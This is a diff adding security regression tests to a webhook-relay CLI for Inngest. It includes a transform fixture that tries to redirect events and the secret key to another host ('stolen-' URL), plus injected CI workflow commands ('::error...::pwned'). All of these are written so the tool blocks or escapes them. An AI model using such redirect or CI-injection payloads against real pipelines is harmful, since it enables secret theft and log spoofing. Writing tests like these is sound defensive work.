@@ -354,3 +354,159 @@ def test_item22_junit_with_control_characters_and_lone_surrogates_parses(
                               code=1).stdout)
     assert document["results"][0]["console"][0]["text"] == (
         "nul \x00 esc \x1b[2J bell \x07 half \ud83d")
+
+
+# -- found by an attack review after the items were fixed ---------------------------
+
+# The rule only sending raises (tests/test_rules.py checks every rule has a trigger).
+SENDING_RULES = {"url-offsite": "test_a_transform_cannot_send_the_event_elsewhere"}
+
+
+def test_a_transform_cannot_send_the_event_elsewhere(cli: RunCli, tmp_path: Path) -> None:
+    with InngestServer() as inngest, InngestServer() as elsewhere:
+        redirect = tmp_path / "redirect.js"
+        redirect.write_text(f"function handler(w) {{ w.url = '{elsewhere.url}/e/stolen-' + "
+                            "encodeURIComponent(w.url);\n  w.payload = {name: 'dodo/x', id: 'r1',"
+                            " data: {}}; return w; }")
+        result = cli("send", "-t", str(redirect), SAMPLE, "--url",
+                     f"{inngest.url}/e/RealSecretKey_98765", code=1)
+        assert elsewhere.requests == [] and inngest.requests == []
+    assert "url-offsite" in result.stderr and "RealSecretKey" not in result.stderr
+
+
+def test_headers_http_cannot_carry_are_a_finding_and_the_replay_goes_on(
+        cli: RunCli, tmp_path: Path) -> None:
+    transform = tmp_path / "t.js"
+    transform.write_text(
+        "function handler(w) { const p = w.payload.data;\n"
+        "  w.headers = {'x-customer': p.payment_id === 'pay_000001' ? 'José' : 'Jose'};\n"
+        "  w.payload = {name: 'dodo/x', id: p.payment_id, data: {}}; return w; }")
+    capture = tmp_path / "c.jsonl"
+    write_capture(capture, 3)
+    with InngestServer() as inngest:
+        result = cli("replay", str(capture), "-t", str(transform), "--url",
+                     f"{inngest.url}/e/k", "--batch", "1", "--no-dodo-check", code=1)
+        assert sorted(r.event["id"] for r in inngest.received) == ["pay_000000", "pay_000002"]
+    assert (counts(result.stdout)["accepted"], counts(result.stdout)["error"]) == (2, 1)
+    assert "headers-invalid: the x-customer header's value is not printable ASCII" \
+        in result.stderr
+
+
+def test_a_key_cut_by_a_servers_error_is_masked_before_the_cut(cli: RunCli,
+                                                               tmp_path: Path) -> None:
+    key = "tVz3Ykq9X2mPaL7dNw4rQeHs8UbJc1FgKo6iRy5TnZxWvE0BdAuMhGjSpLfCqI2aYk9XrPt7_xyzw"
+    page = f"<p>the key {key} is unknown</p>".encode()  # cut at 80 characters when shown
+    with InngestServer() as inngest:
+        inngest.fail_next(Fault("body", 401, body=page), Fault("body", 401, body=json.dumps(
+            {"error": "x" * 1990 + key}).encode()))
+        first = cli("send", "-t", PAYMENT, SAMPLE, "--url", f"{inngest.url}/e/{key}",
+                    "--retries", "0", code=1)
+        second = cli("send", "-t", PAYMENT, SAMPLE, "--url", f"{inngest.url}/e/{key}",
+                     "--retries", "0", "--format", "json", code=1)
+    for output in (first.stdout + first.stderr, second.stdout):
+        assert key[:12] not in output
+
+
+def test_escaping_writers_mask_before_they_escape(cli: RunCli, in_tmp: Path,
+                                                 monkeypatch: pytest.MonkeyPatch) -> None:
+    (in_tmp / "leak.js").write_text("function handler(w) { throw new Error('target ' + w.url); }")
+    summary = in_tmp / "summary.md"
+    monkeypatch.setenv("GITHUB_STEP_SUMMARY", str(summary))
+    key = "abcd_EFGH_ijkl&MNOP<qrst>UVWX_9876"
+    junit = cli("test", "-t", "leak.js", "-s", SAMPLE, "--endpoint-url",
+                f"https://inn.gs/e/{key}", "--format", "junit", code=1).stdout
+    for escaped in (key, key.replace("_", "\\_"), key.replace("&", "&amp;").replace("<", "&lt;")
+                    .replace(">", "&gt;")):
+        assert escaped not in junit + summary.read_text()
+    assert "\\*\\*\\*\\*9876" in summary.read_text()  # masked, then escaped for Markdown
+
+
+def test_a_percent_encoding_spelled_another_way_is_masked(cli: RunCli) -> None:
+    result = cli("send", "--dry-run", "--url", "https://inn.gs/e/abc%2fdefghijklmnop1234", "-t",
+                 PAYMENT, SAMPLE, code=0)
+    assert "defghijklmnop" not in result.stdout + result.stderr
+
+
+def test_one_state_file_whatever_the_spelling_and_order_of_the_captures(
+        cli: RunCli, tmp_path: Path) -> None:
+    (tmp_path / "a.jsonl").write_text("")
+    write_capture(tmp_path / "a.jsonl", 2)
+    write_capture(tmp_path / "b.jsonl", 2, start=2)
+    link = tmp_path / "elsewhere"
+    link.symlink_to(tmp_path, target_is_directory=True)
+    with InngestServer() as inngest:
+        url = ["--url", f"{inngest.url}/e/k", "--no-dodo-check"]
+        cli("replay", str(tmp_path / "a.jsonl"), str(tmp_path / "b.jsonl"), "-t", PAYMENT, *url,
+            code=0)
+        again = [cli("replay", *paths, "-t", PAYMENT, *url, code=0).stdout for paths in (
+            [str(tmp_path / "b.jsonl"), str(tmp_path / "a.jsonl")], [str(tmp_path)],
+            [str(link / "a.jsonl"), str(link / "b.jsonl")])]
+        spelled = cli("replay", str(tmp_path), "-t", PAYMENT, "--url",
+                      f"{inngest.url.replace('127.0.0.1', '127.0.0.1')}/e/k/", "--no-dodo-check",
+                      code=0).stdout
+        assert len(inngest.received) == 4
+    assert [counts(out)["skipped"] for out in [*again, spelled]] == [4, 4, 4, 4]
+
+
+def test_a_record_of_thousands_of_ids_is_read_back(tmp_path: Path) -> None:
+    from dodo_inngest_cli.outcomes import Outcome
+    from dodo_inngest_cli.relay import Dispatch
+
+    state = StateFile(tmp_path / "s.jsonl")
+    state.record(Dispatch("big", "big", "", Outcome.ACCEPTED, ids=["01K" + "X" * 23] * 5000),
+                 "t")
+    state.close()
+    reloaded = StateFile(tmp_path / "s.jsonl")
+    reloaded.close()
+    assert reloaded.accepted("big", "t") and reloaded.problems == []
+
+
+def test_state_and_capture_files_are_readable_by_their_owner_only(tmp_path: Path) -> None:
+    from dodo_inngest_cli.capture import CaptureWriter
+
+    StateFile(tmp_path / "s.jsonl").close()
+    CaptureWriter(tmp_path / "c.jsonl").close()
+    assert {oct((tmp_path / name).stat().st_mode & 0o777) for name in ("s.jsonl", "c.jsonl")} \
+        == {"0o600"}
+
+
+def test_hand_made_capture_lines_are_problems_not_crashes(cli: RunCli, tmp_path: Path) -> None:
+    capture = tmp_path / "c.jsonl"
+    capture.write_text('{"v":1,"id":"s1","headers":{"webhook-id":"a\\ud83d",'
+                       '"webhook-timestamp":"1","webhook-signature":"v1,x"},"body":"{}"}\n'
+                       + "[" * 100_000 + "\n")
+    from test_capture import SECRET
+
+    document = json.loads(cli("verify", str(capture), "--secret", SECRET, "--format", "json",
+                              code=1).stdout)
+    assert [(d["result"], d["reason"]) for d in document["deliveries"]] == [
+        ("invalid", "the webhook-id or the body holds text that is not valid Unicode"),
+        ("unreadable", "a JSON line nested too deeply to read; skipped")]
+
+
+def test_samples_named_alike_in_two_folders_have_their_own_snapshots(
+        cli: RunCli, in_tmp: Path) -> None:
+    for folder, amount in (("a", 100), ("b", 200)):
+        (in_tmp / "s" / folder).mkdir(parents=True)
+        document = json.loads(Path(SAMPLE).read_text())
+        document["data"]["total_amount"] = amount
+        (in_tmp / "s" / folder / "payment.succeeded.json").write_text(json.dumps(document))
+    cli("test", "-t", PAYMENT, "-s", "s", "--snapshots", "snaps", "--update-snapshots", code=0)
+    cli("test", "-t", PAYMENT, "-s", "s", "--snapshots", "snaps", code=0)
+    assert len(list(Path("snaps").rglob("*.json"))) == 2
+
+
+def test_data_cannot_start_a_line_a_ci_runner_reads_as_a_command(cli: RunCli,
+                                                                 in_tmp: Path) -> None:
+    (in_tmp / "t.js").write_text(
+        "function handler(w) { console.log('x\\n::error file=README.md,line=1::pwned');\n"
+        "  throw new Error('y\\n::add-mask::z'); }")
+    out = cli("test", "-t", "t.js", "-s", SAMPLE, code=1).stdout
+    assert not any(line.startswith("::") for line in out.splitlines())
+    assert "x\\n::error file=README.md,line=1::pwned" in out
+
+
+def test_junit_escapes_bidirectional_overrides(cli: RunCli, in_tmp: Path) -> None:
+    (in_tmp / "t.js").write_text("function handler(w) { throw new Error('a\\u202eb'); }")
+    junit = cli("test", "-t", "t.js", "-s", SAMPLE, "--format", "junit", code=1).stdout
+    assert "\u202e" not in junit and "a\\u202eb" in junit
